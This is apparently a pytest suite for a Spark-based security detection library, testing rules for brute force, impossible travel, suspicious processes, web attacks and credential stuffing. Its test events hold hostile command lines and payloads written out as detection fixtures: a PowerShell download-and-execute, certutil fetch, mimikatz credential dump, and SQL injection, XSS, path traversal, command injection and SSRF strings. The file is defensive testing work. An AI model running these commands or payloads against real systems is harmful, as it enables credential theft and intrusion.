import base64
import json
import random

from events_helper import at, make_events
from test_sequence import py_greedy

from secspark.functions import constants as K
from secspark.functions.patterns import java_regex
from secspark.operators.rules import (AdminGroupAdd, BruteForce, CredentialStuffing, ImpossibleTravel,
                                      SuspiciousProcess, WebAttack, detect)


def fail(user, ip, t, method="ssh2"):
    return {"timestamp": t, "event_action": "login", "event_outcome": "failure", "user_name": user,
            "source_ip": ip, "auth_method": method, "source_type": "linux_auth"}


def ok(user, ip, t, country=None):
    return {"timestamp": t, "event_action": "login", "event_outcome": "success", "user_name": user,
            "source_ip": ip, "source_geo_country": country}


def proc(cmd, name="C:\\x\\cmd.exe", parent="C:\\x\\explorer.exe", t=None):
    return {"timestamp": t or at(0), "event_action": "process_create", "process_command_line": cmd,
            "process_name": name, "process_parent_name": parent, "user_name": "u"}


def web(url, ua="Mozilla/5.0", t=None):
    return {"timestamp": t or at(0), "event_action": "http_request", "http_url": url, "http_user_agent": ua,
            "source_ip": "203.0.113.7", "http_method": "GET", "http_status_code": 200}


def ctx(row):
    return json.loads(row["context"])


def test_bf_burst_and_threshold(spark):
    burst = [fail("root", "203.0.113.5", at(7 * i)) for i in range(6)]
    below = [fail("bob", "10.0.0.5", at(30 * i)) for i in range(3)]
    a = BruteForce().alerts(make_events(spark, burst + below)).collect()
    assert len(a) == 1
    c = ctx(a[0])
    assert (c["failed_attempts"], c["user"], c["window_seconds"], c["auth_methods"]) == (6, "root", 600, ["ssh2"])
    assert a[0]["description"] == "6 failed logins for user 'root' from 203.0.113.5 within 35s"
    assert a[0]["severity"] == "high" and a[0]["n_source_events"] == 6
    ev = BruteForce().evidence(make_events(spark, burst + below)).collect()
    assert len({r["event_fingerprint"] for r in ev}) == 6


def test_bf_second_ip_and_spread(spark):
    rows = [fail("root", "203.0.113.5", at(7 * i)) for i in range(6)] + \
           [fail("root", "198.51.100.42", at(10 * i)) for i in range(5)] + \
           [fail("eve", "1.1.1.1", at(minutes=20 * i)) for i in range(6)]
    assert BruteForce().alerts(make_events(spark, rows)).count() == 2


def test_bf_edges(spark):
    # window is inclusive; equal timestamps; back-to-back bursts; null user skipped
    rows = [fail("a", "1.1.1.1", at(0)), fail("a", "1.1.1.1", at(600)), fail("a", "1.1.1.1", at(600)),
            fail("a", "1.1.1.1", at(601)), fail("a", "1.1.1.1", at(601)), fail("a", "1.1.1.1", at(602)),
            fail(None, "1.1.1.1", at(0)), fail("", "1.1.1.1", at(1))]
    got = sorted(ctx(r)["failed_attempts"] for r in BruteForce(threshold=3).alerts(make_events(spark, rows)).collect())
    assert got == [3, 3]


def test_bf_random_vs_scan(spark):
    rnd = random.Random(11)
    rows = [fail(f"u{rnd.randrange(3)}", "9.9.9.9", at(rnd.randrange(5000))) for _ in range(400)]
    got = sorted((ctx(r)["user"], ctx(r)["failed_attempts"]) for r in
                 BruteForce(threshold=4, window_seconds=60).alerts(make_events(spark, rows)).collect())
    want = []
    for u in {r["user_name"] for r in rows}:
        ts = [int((r["timestamp"] - at(0)).total_seconds()) for r in rows if r["user_name"] == u]
        want += [(u, n) for _, n in py_greedy(ts, 60, 4)]
    assert got == sorted(want)


def test_bf_severity_override(spark):
    rows = [fail("root", "203.0.113.5", at(7 * i)) for i in range(6)]
    assert BruteForce(severity="critical").alerts(make_events(spark, rows)).collect()[0]["severity"] == "critical"


def test_it_travel(spark):
    rows = [ok("alice", "1.2.3.4", at(0), "US"), ok("alice", "5.6.7.8", at(minutes=30), "CN"),
            ok("bob", "1.2.3.5", at(0), "US"), ok("bob", "1.2.3.6", at(minutes=20), "US"),
            ok("carol", "1.2.3.4", at(0)), ok("carol", "5.6.7.8", at(hours=24)),
            ok("dave", "10.0.0.5", at(0)), ok("dave", "192.168.1.20", at(minutes=10)),
            ok("erin", "1.2.3.4", at(0)), ok("erin", "10.0.0.1", at(minutes=5)), ok("erin", "5.6.7.8", at(minutes=10)),
            fail("frank", "1.2.3.4", at(0)), fail("frank", "5.6.7.8", at(minutes=1))]
    a = {ctx(r)["user"]: r for r in ImpossibleTravel().alerts(make_events(spark, rows)).collect()}
    assert set(a) == {"alice", "erin"}
    c = ctx(a["alice"])
    assert (c["distance_km"], c["implied_speed_kmh"], c["time_delta_seconds"]) == (11586.9, 23173.8, 1800)
    assert a["alice"]["description"].endswith("(11587 km in 0:30:00).")
    assert a["alice"]["severity"] == "medium"
    assert ImpossibleTravel(severity="high").alerts(make_events(spark, rows[:2])).collect()[0]["severity"] == "high"


def test_sp_patterns(spark):
    enc = base64.b64encode("Write-Host 'x'".encode("utf-16-le")).decode()
    rows = [proc(f"powershell.exe -NoProfile -EncodedCommand {enc}"),
            proc("mimikatz.exe sekurlsa::logonpasswords"),
            proc("cmd.exe /c whoami", name="C:\\Windows\\System32\\cmd.exe", parent="C:\\Office\\WINWORD.EXE"),
            proc("powershell IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')"),
            proc("certutil.exe -urlcache -f http://x/a.exe a.exe"),
            proc("notepad.exe notes.txt")]
    got = SuspiciousProcess(severity="low").typed(make_events(spark, rows)).collect()
    by = {r["command_line"]: r for r in got}
    assert len(got) == 5  # notepad does not match; the severity override is not applied (L3)
    e = by[f"powershell.exe -NoProfile -EncodedCommand {enc}"]
    assert (e["severity"], e["decoded_payload"], json.loads(e["context"])["mitre_attack_ids"]) == ("high", "Write-Host 'x'", ["T1059.001"])
    assert by["mimikatz.exe sekurlsa::logonpasswords"]["severity"] == "critical"
    assert by["cmd.exe /c whoami"]["matched_patterns"] == ["suspicious_parent_child:winword.exe->cmd.exe"]
    assert by["certutil.exe -urlcache -f http://x/a.exe a.exe"]["severity"] == "medium"


def test_wa_patterns(spark):
    rows = [web("/search?q=1' OR '1'='1"), web("/search?q=<script>alert(1)</script>"), web("../../../../etc/passwd"),
            web("/index.html", ua="curl/8.4.0"), web("/fetch?url=http://169.254.169.254/latest/"),
            web("%2e%2e%2f%2e%2e%2fetc%2fpasswd", ua=""), web("/ping?host=8.8.8.8;cat /etc/hosts", ua="")]
    got = {json.loads(r["context"])["http_url"]: r for r in WebAttack(severity="low").alerts(make_events(spark, rows)).collect()}
    assert "/index.html" not in got and len(got) == 6
    assert got["/search?q=1' OR '1'='1"]["severity"] == "high"
    assert got["../../../../etc/passwd"]["severity"] == "critical"
    assert got["/fetch?url=http://169.254.169.254/latest/"]["severity"] == "critical"
    c = json.loads(got["/ping?host=8.8.8.8;cat /etc/hosts"]["context"])
    assert c["families_matched"] == ["cmd"] and got["/ping?host=8.8.8.8;cat /etc/hosts"]["severity"] == "medium"
    two = WebAttack().alerts(make_events(spark, [web("/a?x=1;ls", ua="sqlmap --")])).collect()[0]
    assert json.loads(two["context"])["families_matched"] == ["cmd", "sqli"] and two["severity"] == "high"


def test_cs_and_ag(spark):
    rows = [fail("root", "203.0.113.5", at(7 * i)) for i in range(8)] + [ok("root", "203.0.113.5", at(65))] + \
           [fail("x", "1.1.1.1", at(0)), ok("x", "1.1.1.1", at(301))]
    a = CredentialStuffing().alerts(make_events(spark, rows)).collect()
    assert len(a) == 1 and a[0]["severity"] == "critical" and json.loads(a[0]["context"])["failed_attempts"] == 8
    assert CredentialStuffing().evidence(make_events(spark, rows)).count() == 9
    g = [{"timestamp": at(0), "event_action": "group_member_add", "user_name": "mallory",
          "labels": {"group": "Administrators", "event_id": "4732"}},
         {"timestamp": at(0), "event_action": "group_member_add", "user_name": "m2",
          "labels": {"group": "Remote Desktop Users"}}]
    ag = AdminGroupAdd().alerts(make_events(spark, g)).collect()
    assert len(ag) == 1 and ag[0]["description"] == "User 'mallory' added to local admins group 'Administrators'"


def test_detect_union(spark):
    rows = [fail("root", "203.0.113.5", at(7 * i)) for i in range(6)] + [proc("mimikatz.exe")] + \
           [web("/etc/passwd")] + [ok("alice", "1.2.3.4", at(0), "US"), ok("alice", "5.6.7.8", at(minutes=30), "CN")]
    got = sorted(r["rule_id"] for r in detect(make_events(spark, rows)).collect())
    assert got == ["BF-001", "IT-001", "SP-001", "WA-001"]


def test_cs_evidence_random_vs_brute_force(spark):
    rnd = random.Random(5)
    rows = []
    for _ in range(150):
        ip = f"9.9.9.{rnd.randrange(2)}"
        t = at(rnd.randrange(200))
        rows.append(ok("u", ip, t) if rnd.random() < 0.3 else fail("u", ip, t))
    ev = make_events(spark, rows)
    rule = CredentialStuffing(window_seconds=10)
    intervals = sorted((r["to_us"], r["n_failures"], r["from_us"]) for r in rule.intervals(ev).collect())
    want, covered = {}, set()
    for i, s in enumerate(rows):
        if s["event_outcome"] != "success":
            continue
        prior = [j for j, f in enumerate(rows) if f["event_outcome"] == "failure" and f["source_ip"] == s["source_ip"]
                 and (f["timestamp"], j) < (s["timestamp"], i) and (s["timestamp"] - f["timestamp"]).total_seconds() <= 10]
        if prior:
            covered |= set(prior)
            us = [int(rows[j]["timestamp"].timestamp()) * 1_000_000 for j in prior]
            want[i] = (int(s["timestamp"].timestamp()) * 1_000_000, len(prior), min(us))
    assert intervals == sorted(want.values())
    # each alert's success once, each failure of any interval once
    got = rule.evidence(ev)
    assert got.count() == len(want) + len(covered)
    assert got.select("alert_id").distinct().join(rule.alerts(ev), "alert_id").count() == got.select("alert_id").distinct().count()
    assert rule.alerts(ev).count() == len(want)


# One string per catalogue pattern that the pattern alone explains, written out by hand.
WEB_EXAMPLES = {
    "sqli_union": "/p?id=7 union  select 1", "sqli_comment": "/p?id=7--", "sqli_or_comment": "/p?id=7' or '1'='1", "sqli_sleep": "/p?id=sleep(9)",
    "sqli_select_from": "/p?q=select a from b", "xss_script_tag": "/p?x=<SCRIPT>", "xss_event_handler": "/p?x=a onload=b",
    "xss_js_uri": "/go?u=JavaScript:f", "xss_img_tag": "/p?x=<img src=a onerror=b>",
    "path_traversal_dotdot": "/a/../../b", "path_traversal_encoded": "/a/%2e%2e%2fb", "path_traversal_etc_passwd": "/etc/passwd",
    "cmd_injection_pipe": "/p?h=a|id", "cmd_injection_semicolon": "/p?h=a;cat", "cmd_injection_backtick": "/p?h=`id`",
    "ssrf_metadata": "/f?u=169.254.169.254", "ssrf_localhost": "/f?u=http://localhost/", "rfi_remote": "/p?file=http://h/s.txt",
}


def test_every_web_pattern_has_a_literal_example(spark):
    names = [n for n, *_ in K.WEB_PATTERNS]
    rows = [web(u, ua="") for u in WEB_EXAMPLES.values()]
    got = {r["http_url"]: r["matched_patterns"] for r in WebAttack().typed(make_events(spark, rows)).collect()}
    missed = {n for n, u in WEB_EXAMPLES.items() if n not in got.get(u, [])}
    assert not missed, missed
    assert set(WEB_EXAMPLES) == set(names)


def test_letters_that_fold_to_ascii_are_not_lost(spark):
    rows = [web("/x?<scr\u0130pt>a", ua=""), web("/j JAVASCR\u0130PT:alert", ua=""), web("/<\u0130mg src=x onerror=1", ua=""),
            web("/y?q=\u017felect a from b", ua="")]
    ev = make_events(spark, rows)
    got = {r["http_url"] for r in WebAttack().typed(ev).collect()}
    alone = {r["http_url"] for r in ev.filter(" or ".join(["false"] + [
        "http_url rlike '" + java_regex(rx, ci).replace("\\", "\\\\").replace("'", "\\'") + "'"
        for _, rx, ci, *_ in K.WEB_PATTERNS])).collect()}
    assert got == alone
